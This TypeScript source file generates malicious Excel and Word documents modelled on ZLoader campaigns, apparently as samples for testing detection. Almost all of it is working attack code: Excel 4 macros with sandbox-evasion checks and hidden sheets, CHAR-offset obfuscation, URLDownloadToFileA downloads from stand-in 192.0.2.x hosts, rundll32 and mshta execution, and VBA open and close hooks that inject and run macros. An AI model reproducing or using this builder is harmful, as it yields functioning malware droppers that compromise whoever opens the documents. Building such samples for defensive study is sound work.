/** Documents after campaigns of ZLoader. */

import { writeXlm } from '../xlm-writer.ts'
import { charOf, column } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { docm, xls, xlsm } from './office.ts'

/** Excel 4 macros that write macros from numbers, after questions to the workspace (2020 and 2021). */
export function zLoader(i: number): Buffer {
  const d = disguiseOf(900 + i)
  const [name, key] = [d.name(), 5 + d.random(40)]
  const run = `=EXEC("rundll32.exe C:\\Users\\Public\\${name}.dll,DllRegisterServer")`
  const load = `=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://192.0.2.${i + 1}/wp-keys.php","c:\\Users\\Public\\${name}.html",0,0)`
  const spaced = (text: string): string[] => [...text].map((letter) => String(letter.charCodeAt(0) + key))
  const state = i % 2 === 0 ? 'veryHidden' : 'hidden'
  const checks = [
    'IF(GET.WORKSPACE(13)<770,CLOSE(FALSE))',
    'IF(GET.WORKSPACE(14)<390,CLOSE(FALSE))',
    'IF(GET.WORKSPACE(19),,CLOSE(TRUE))',
    'IF(ISNUMBER(SEARCH("Windows",GET.WORKSPACE(1))),,CLOSE(TRUE))',
  ]
  const variants: (() => Buffer)[] = [
    () =>
      writeXlm({
        formulas: [
          ...checks,
          `FORMULA(${charOf(load, key)},A40)`,
          `FORMULA(${charOf(run, key)},A41)`,
          'WORKBOOK.HIDE("m",1)',
          'GOTO(A40)',
        ],
        state,
      }),
    () =>
      writeXlm({
        formulas: [
          ...checks,
          'SET.VALUE(C1,"")',
          `FOR("i",1,${run.length})`,
          `SET.VALUE(C1,C1&CHAR(INDEX(data!A1:A${run.length},i)-${key}))`,
          'NEXT()',
          'FORMULA(C1,A60)',
          'RUN(A60)',
        ],
        data: spaced(run),
        state,
      }),
    () => writeXlm({ formulas: [`FORMULA.FILL(${charOf(run)},A20:A20)`, 'RUN(A20)'], state }),
    () =>
      writeXlm({
        formulas: [
          'SET.NAME("k",DAY(NOW()))',
          ...checks,
          `FORMULA(CHAR(data!A1-k)&CHAR(data!A2-k)&CHAR(data!A3-k)&CHAR(data!A4-k)&CHAR(data!A5-k)&CHAR(data!A6-k)&CHAR(data!A7-k)&CHAR(data!A8-k)&CHAR(data!A9-k)&CHAR(data!A10-k)&CHAR(data!A11-k)&CHAR(data!A12-k),A30)`,
          'GOTO(A30)',
        ],
        data: spaced(run),
        state,
      }),
    () =>
      writeXlm({
        formulas: [
          `WHILE(ISNUMBER(ACTIVE.CELL()))`,
          `SET.NAME("z",z&CHAR(ACTIVE.CELL()-${key}))`,
          'SELECT("R[1]C")',
          'NEXT()',
          'FORMULA(z,A30)',
          'GOTO(A30)',
        ],
        data: spaced(run),
        state,
      }),
    () =>
      writeXlm({
        formulas: [
          `REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","${name}",,1,9)`,
          `${name}(0,"http://192.0.2.${i}/a","C:\\Users\\Public\\a.dll",0,0)`,
          'EXEC("rundll32 C:\\Users\\Public\\a.dll,Start")',
        ],
        state,
      }),
    () =>
      xlsm({
        modules: {
          Module1: `Sub Auto_Open()\nFor i = 1 To ${run.length}\ns = s & Chr(Cells(i, 3) - ${key})\nNext\nExecuteExcel4Macro Mid(s, 2)\nEnd Sub`,
        },
        cells: column('C', spaced(run)),
      }),
    () =>
      xls({
        modules: {
          Module1: `Sub Auto_Close()\nSheets.Add Type:=xlExcel4MacroSheet\nFor i = 1 To 1\nActiveSheet.Cells(i, 1).Formula = "${run.replaceAll('"', '""')}"\nNext\nApplication.Run ActiveSheet.Name & "!R1C1"\nEnd Sub`,
        },
      }),
    () =>
      xlsm({
        modules: {
          ThisWorkbook: `Private Sub Workbook_BeforeClose(Cancel As Boolean)\nDim s As Worksheet\nSet s = Application.Excel4MacroSheets.Add\ns.Visible = xlSheetVeryHidden\ns.Range("A1").FormulaLocal = Sheet1.Range("Z1").Value\nApplication.Run "'" & s.Name & "'!A1"\nEnd Sub`,
        },
        cells: { Z1: run },
      }),
    () =>
      docm({
        modules: {
          ThisDocument: `Sub Document_Open()\nDim x As Object\nSet x = CreateObject("Excel.Application")\nx.DisplayAlerts = False\nSet w = x.Workbooks.Open("https://192.0.2.${i}/a.xls")\nx.Run "a"\nEnd Sub`,
        },
      }),
    () =>
      docm({
        modules: {
          ThisDocument: `Sub Document_Close()\nSet x = CreateObject("Excel.Application")\nx.ExecuteExcel4Macro UserForm1.ComboBox1.Tag & UserForm1.ComboBox1.Value\nEnd Sub`,
        },
        forms: {
          UserForm1: [
            { name: 'ComboBox1', type: 25, tag: 'EXEC("rund', value: 'll32 C:\\Users\\Public\\a.dll,Start")' },
          ],
        },
      }),
    () =>
      writeXlm({
        formulas: [
          ...checks,
          `FOPEN("C:\\Users\\Public\\${name}.vbs",3)`,
          `FWRITELN(A5,"${'CreateObject(""WScript.Shell"").Run ""mshta http://192.0.2.1/a""'}")`,
          'FCLOSE(A5)',
          `EXEC("explorer.exe C:\\Users\\Public\\${name}.vbs")`,
        ],
        state,
      }),
  ]
  return (variants[i] as () => Buffer)()
}
